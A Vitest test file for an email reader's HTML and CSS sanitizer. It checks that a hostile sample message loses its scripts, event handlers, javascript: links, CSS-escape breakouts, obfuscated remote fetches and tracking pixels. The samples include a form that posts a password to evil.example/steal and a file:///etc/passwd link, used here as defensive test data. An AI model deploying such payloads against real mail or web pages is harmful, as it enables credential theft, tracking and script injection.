// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeCss } from './css-sanitize';
import { BLOCKED_ATTR, MISSING_CID_ATTR, safeLinkTarget, sanitizeMessageHtml, TRACKER_ATTR } from './sanitize';

const NO_CIDS = new Map<string, string>();
const blocked = { allowRemote: false, cidUrls: NO_CIDS };
/** What the engine hands back for remote images: a data: URL per fetched URL. */
const fetchedAll = new Proxy(new Map<string, string>(), {
  get(target, prop) {
    if (prop === 'get') return (url: string) => `data:image/png;base64,${btoa(url)}`;
    return Reflect.get(target, prop) as unknown;
  },
}) as ReadonlyMap<string, string>;
const dataFor = (url: string) => `data:image/png;base64,${btoa(url)}`;
const allowed = { allowRemote: true, cidUrls: NO_CIDS, remoteImages: fetchedAll };

/** Parses sanitized output the way the frame would, for structural assertions. */
function parse(html: string): HTMLElement {
  const doc = new DOMParser().parseFromString(`<!doctype html><body>${html}`, 'text/html');
  return doc.body;
}

/** Every attribute value and style text of the output, for "nothing remote survives" checks. */
function urlsIn(body: HTMLElement): string[] {
  const out: string[] = [];
  for (const el of body.querySelectorAll('*')) {
    for (const a of el.attributes) out.push(`${el.localName}[${a.name}]=${a.value}`);
    if (el.localName === 'style') out.push(`style{${el.textContent ?? ''}}`);
  }
  return out;
}

const HOSTILE = `<!doctype html>
<html>
<head>
  <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
  <base href="https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/sheet.css">
  <style>@import url(http://evil.example/import.css); .x { color: red }</style>
  <title>Hostile</title>
</head>
<body onload="alert(1)">
  <script>alert('script')</script>
  <img src="x" onerror="alert('onerror')" alt="broken">
  <a href="javascript:alert('js')">js link</a>
  <a href="data:text/html,<script>alert(1)</script>">data link</a>
  <a href="vbscript:msgbox(1)">vb link</a>
  <a href="https://example.com/page?a=1" title="Safe bank">good link</a>
  <a href="mailto:friend@example.com">mail link</a>
  <a href="ftp://files.example.com/x">ftp link</a>
  <form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
  <iframe src="https://evil.example/frame"></iframe>
  <object data="https://evil.example/plugin.swf"></object>
  <embed src="https://evil.example/plugin.swf">
  <img src="https://images.example.com/photo.jpg" width="300" height="200" alt="A photo">
  <img src="https://images.example.com/small.jpg" srcset="https://images.example.com/big.jpg 2x" alt="Set">
  <div style="background:url(http://evil.example/bg.png); color: blue">styled</div>
  <svg><script>alert('svg')</script><image href="https://evil.example/svg.png"/></svg>
  <math><mi xlink:href="javascript:alert(1)">x</mi></math>
  <img src="https://tracker.example/open?id=42" width="1" height="1" alt="">
  <p>Plain paragraph</p>
</body>
</html>`;

describe('sanitizeMessageHtml on a hostile message', () => {
  const out = sanitizeMessageHtml(HOSTILE, blocked);
  const body = parse(out.html);
  const all = urlsIn(body).join('\n');

  it('keeps no script, handler, form, frame, plugin, svg, math, base, meta or link', () => {
    expect(out.html).not.toMatch(/<script|<form|<input|<button|<iframe|<object|<embed|<svg|<math|<base|<meta|<link|<title/i);
    expect(out.html).not.toMatch(/\bon[a-z]+\s*=/i);
    expect(out.html).not.toMatch(/alert/);
    expect(body.querySelectorAll('script, form, input, button, iframe, object, embed, svg, math, base, meta, link')).toHaveLength(0);
    for (const el of body.querySelectorAll('*')) {
      for (const a of el.attributes) expect(a.name).not.toMatch(/^on/);
    }
  });

  it('keeps the harmless content', () => {
    expect(body.textContent).toContain('Plain paragraph');
    expect(body.textContent).toContain('styled');
    expect(body.textContent).toContain('good link');
  });

  it('lets only http, https and mailto links keep a target, opening outside with the real URL as title', () => {
    const links = [...body.querySelectorAll('a')];
    const byText = (t: string) => links.find((a) => a.textContent === t);
    for (const t of ['js link', 'data link', 'vb link', 'ftp link']) {
      const a = byText(t);
      expect(a, t).toBeDefined();
      expect(a?.hasAttribute('href'), t).toBe(false);
    }
    const good = byText('good link');
    expect(good?.getAttribute('href')).toBe('https://example.com/page?a=1');
    expect(good?.getAttribute('target')).toBe('_blank');
    expect(good?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(good?.getAttribute('title')).toBe('https://example.com/page?a=1');
    const mail = byText('mail link');
    expect(mail?.getAttribute('href')).toBe('mailto:friend@example.com');
    expect(mail?.getAttribute('title')).toBe('friend@example.com');
    expect(all).not.toMatch(/javascript:|vbscript:|data:text/i);
  });

  it('loads nothing remote while remote content is blocked', () => {
    expect(all).not.toMatch(/evil\.example|images\.example|tracker\.example/);
    const photo = body.querySelector('img[alt="A photo"]');
    expect(photo?.hasAttribute('src')).toBe(false);
    expect(photo?.getAttribute(BLOCKED_ATTR)).toBe('remote');
    expect(photo?.getAttribute('width')).toBe('300');
    expect(photo?.getAttribute('height')).toBe('200');
    const set = body.querySelector('img[alt="Set"]');
    expect(set?.hasAttribute('src')).toBe(false);
    expect(set?.hasAttribute('srcset')).toBe(false);
  });

  it('neutralizes the remote CSS: @import and url()', () => {
    const styles = [...body.querySelectorAll('style')].map((s) => s.textContent ?? '').join('\n');
    expect(styles).toContain('.x { color: red }');
    expect(styles).not.toMatch(/@import/);
    const div = [...body.querySelectorAll('div')].find((d) => d.textContent === 'styled');
    expect(div?.getAttribute('style')).toMatch(/background:\s*none/);
    expect(div?.getAttribute('style')).toMatch(/color: blue/);
  });

  it('counts what it blocked', () => {
    // Remote images the bar offers to load: the photo and the srcset image (not the pixel).
    expect(out.blockedRemote).toBe(2);
    expect(out.trackers).toBe(1);
    // The stylesheet <link>, @import, background url(), iframe, object, embed.
    expect(out.blockedAlways).toBe(6);
    const pixel = body.querySelector(`img[${TRACKER_ATTR}]`);
    expect(pixel?.hasAttribute('src')).toBe(false);
  });
});

describe('sanitizeMessageHtml with remote content allowed', () => {
  const out = sanitizeMessageHtml(HOSTILE, allowed);
  const body = parse(out.html);
  const all = urlsIn(body).join('\n');

  it('shows remote <img> through the data: URLs the engine fetched, nothing else', () => {
    expect(body.querySelector('img[alt="A photo"]')?.getAttribute('src')).toBe(dataFor('https://images.example.com/photo.jpg'));
    const set = body.querySelector('img[alt="Set"]');
    expect(set?.getAttribute('src')).toBe(dataFor('https://images.example.com/small.jpg'));
    expect(set?.hasAttribute('srcset')).toBe(false);
    expect(set?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(out.remoteImageUrls).toEqual(['https://images.example.com/photo.jpg', 'https://images.example.com/small.jpg']);
    expect(body.querySelector(`img[${BLOCKED_ATTR}]`)).toBeNull();
    // Not the CSS, the stylesheet, frames or plugins.
    expect(all).not.toMatch(/evil\.example/);
    expect(out.blockedRemote).toBe(0);
    expect(out.blockedAlways).toBe(6);
  });

  it('never loads the tracking pixel', () => {
    expect(all).not.toMatch(/tracker\.example/);
    expect(out.trackers).toBe(1);
  });

  it('recognizes pixels by style, zero size, hiding or a tracking host', () => {
    const html = [
      '<img id="a" src="https://t.example/a" style="width:1px;height:1px">',
      '<img id="b" src="https://t.example/b" width="0">',
      '<img id="c" src="https://t.example/c" style="display: none">',
      '<img id="d" src="https://us1.list-manage.com/track/open.php?u=1" width="600" height="100">',
      '<img id="e" src="//t.example/e" width="1" height="1">',
      '<img id="f" src="https://ok.example/f" width="1" height="100">',
    ].join('');
    const r = sanitizeMessageHtml(html, allowed);
    const b = parse(r.html);
    expect(r.trackers).toBe(5);
    for (const id of ['a', 'b', 'c', 'd', 'e']) expect(b.querySelector(`#${id}`)?.hasAttribute('src'), id).toBe(false);
    expect(b.querySelector('#f')?.getAttribute('src')).toBe(dataFor('https://ok.example/f'));
    expect(r.remoteImageUrls).toEqual(['https://ok.example/f']);
  });

  it('loads protocol-relative images over https', () => {
    const r = sanitizeMessageHtml('<img src="//img.example/x.png" alt="x">', allowed);
    expect(r.remoteImageUrls).toEqual(['https://img.example/x.png']);
    expect(parse(r.html).querySelector('img')?.getAttribute('src')).toBe(dataFor('https://img.example/x.png'));
    expect(sanitizeMessageHtml('<img src="//img.example/x.png" alt="x">', blocked).blockedRemote).toBe(1);
  });
});

describe('sanitizeMessageHtml images', () => {
  it('shows an allowed remote image only once the engine fetched it; never a non-image data URL', () => {
    const html = '<img id="a" src="https://img.example/a.png"><img id="b" src="https://img.example/b.png">';
    const remoteImages = new Map([
      ['https://img.example/a.png', 'data:image/png;base64,AAAA'],
      ['https://img.example/b.png', 'data:text/html;base64,PHNjcmlwdD4='],
    ]);
    const b = parse(sanitizeMessageHtml(html, { allowRemote: true, cidUrls: NO_CIDS, remoteImages }).html);
    expect(b.querySelector('#a')?.getAttribute('src')).toBe('data:image/png;base64,AAAA');
    expect(b.querySelector('#b')?.hasAttribute('src')).toBe(false);
    expect(b.querySelector('#b')?.getAttribute(BLOCKED_ATTR)).toBe('loading');
    expect(b.innerHTML).not.toContain('https://img.example');
  });

  it('replaces cid: images with the local URL and marks the unknown ones', () => {
    const cidUrls = new Map([
      ['logo@petrel', 'blob:https://app.example/1234-5678'],
      ['evil@petrel', 'javascript:alert(1)'],
    ]);
    const html = '<img id="a" src="cid:logo@petrel"><img id="b" src="cid:missing@petrel"><img id="c" src="cid:evil@petrel">';
    const b = parse(sanitizeMessageHtml(html, { allowRemote: false, cidUrls }).html);
    expect(b.querySelector('#a')?.getAttribute('src')).toBe('blob:https://app.example/1234-5678');
    expect(b.querySelector('#b')?.hasAttribute('src')).toBe(false);
    expect(b.querySelector('#b')?.hasAttribute(MISSING_CID_ATTR)).toBe(true);
    // A resolver handing back anything but blob:/data:image is not trusted either.
    expect(b.querySelector('#c')?.hasAttribute('src')).toBe(false);
  });

  it('keeps data:image sources and drops other data:, blob: and relative ones', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const html = `<img id="a" src="${png}"><img id="b" src="data:text/html;base64,PHNjcmlwdD4="><img id="c" src="blob:https://x/1"><img id="d" src="local.png">`;
    const r = sanitizeMessageHtml(html, allowed);
    const b = parse(r.html);
    expect(b.querySelector('#a')?.getAttribute('src')).toBe(png);
    for (const id of ['b', 'c', 'd']) expect(b.querySelector(`#${id}`)?.hasAttribute('src'), id).toBe(false);
    expect(r.blockedRemote + r.trackers + r.blockedAlways).toBe(0);
  });

  it('blocks background attributes, always', () => {
    const r = sanitizeMessageHtml('<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>', allowed);
    expect(r.html).not.toContain('evil.example');
    expect(r.blockedAlways).toBe(1);
  });

  it('keeps the styles of the mail head and the look of its body', () => {
    const r = sanitizeMessageHtml(
      '<html><head><style>p { margin: 0 }</style></head><body bgcolor="#eeeeee" style="font-family: serif"><p>Hi</p></body></html>',
      blocked,
    );
    const b = parse(r.html);
    expect(b.querySelector('style')?.textContent).toBe('p { margin: 0 }');
    const wrapper = b.querySelector('[data-petrel-body]');
    expect(wrapper?.getAttribute('style')).toBe('background-color:#eeeeee;font-family: serif');
    expect(wrapper?.querySelector('p')?.textContent).toBe('Hi');
  });

  it('cannot be talked out of a <style> element by CSS escapes', () => {
    const r = sanitizeMessageHtml(
      '<style>.a{} </\\73 tyle><img src="https://evil.example/x" width="5" height="5"><a href="javascript:alert(1)">x</a></style><p>after</p>',
      allowed,
    );
    const b = parse(r.html);
    expect(b.querySelector('img')).toBeNull();
    expect(b.querySelector('a')).toBeNull();
    expect(b.querySelector('p')?.textContent).toBe('after');
    // What is left of it is dead text inside the style element.
    expect(b.querySelector('style')?.textContent).not.toContain('<');
  });

  it('does not let the mail forge the reader’s own marks', () => {
    const b = parse(sanitizeMessageHtml(`<img src="data:image/gif;base64,R0lGOD" ${BLOCKED_ATTR}="remote" data-x="1">`, blocked).html);
    expect(b.querySelector('img')?.hasAttribute(BLOCKED_ATTR)).toBe(false);
    expect(b.querySelector('img')?.hasAttribute('data-x')).toBe(false);
  });
});

describe('sanitizeCss', () => {
  const run = (css: string) => {
    const counts = { remote: 0 };
    const out = sanitizeCss(css, { resolveCid: (id) => (id === 'bg' ? 'blob:https://app/1' : null), counts });
    return { out, remote: counts.remote };
  };

  it.each([
    ['a{background:url(https://evil.example/a.png)}'],
    ['a{background:url("https://evil.example/a.png")}'],
    ["a{background:url( 'https://evil.example/a.png' )}"],
    ['a{background:URL(//evil.example/a.png)}'],
    ['a{background:\\75 rl(https://evil.example/a.png)}'],
    ['a{background:\\55\\52\\4c(https://evil.example/a.png)}'],
    ['a{background-image:image-set("https://evil.example/a.png" 1x)}'],
    ['a{background-image:-webkit-image-set("https://evil.example/a.png" 1x)}'],
    ['@font-face{font-family:x;src:url(https://evil.example/f.woff) format("woff")}'],
    ['@import "https://evil.example/x.css";'],
    ['@\\69mport "https://evil.example/x.css";'],
    ['@import/**/url(https://evil.example/x.css);'],
    ['a{background:url(https://evil.example/a.png'],
    ['a{background:url(http\\3a //evil.example/a.png)}'],
    ['a{background:src("https://evil.example/a.png")}'],
  ])('leaves no fetch in %s', (css) => {
    const { out } = run(css);
    // What survives may mention the URL only as dead text: no url( / @import / string-URL function.
    expect(out).not.toMatch(/(?<![\w-])url\s*\(\s*['"]?(?:https?:)?\/\//i);
    expect(out).not.toMatch(/@import/i);
    expect(out).not.toMatch(/(?<![\w-])(?:image-set|src|image)\(/i);
  });

  it('counts remote loads and keeps local ones', () => {
    const r = run('a{background:url(https://x/a.png)} b{background:url(cid:bg)} c{background:url(data:image/png;base64,AAAA)} d{filter:url(#f)} e{background:url(cid:nope)}');
    expect(r.remote).toBe(1);
    expect(r.out).toContain('url("blob:https://app/1")');
    expect(r.out).toContain('url("data:image/png;base64,AAAA")');
    expect(r.out).toContain('url("#f")');
    expect(r.out).not.toContain('cid:');
  });

  it('leaves ordinary CSS alone', () => {
    const css = '.a > b { color: #123; font: 12px/1.5 "Helvetica Neue", sans-serif; content: "\\201C" }';
    expect(run(css).out).toBe(css);
  });
});

describe('safeLinkTarget', () => {
  it.each([
    ['https://example.com', 'https://example.com/'],
    ['  http://example.com/a b', 'http://example.com/a%20b'],
    ['mailto:a@example.com', 'mailto:a@example.com'],
    ['java\tscript:alert(1)', null],
    ['JAVASCRIPT:alert(1)', null],
    [' javascript:alert(1)', null],
    ['data:text/html,hi', null],
    ['file:///etc/passwd', null],
    ['//example.com/x', null],
    ['relative/path', null],
    ['https://exаmple.com/', 'https://xn--exmple-4nf.com/'],
  ])('%j -> %j', (href, want) => {
    expect(safeLinkTarget(href)).toBe(want);
  });
});
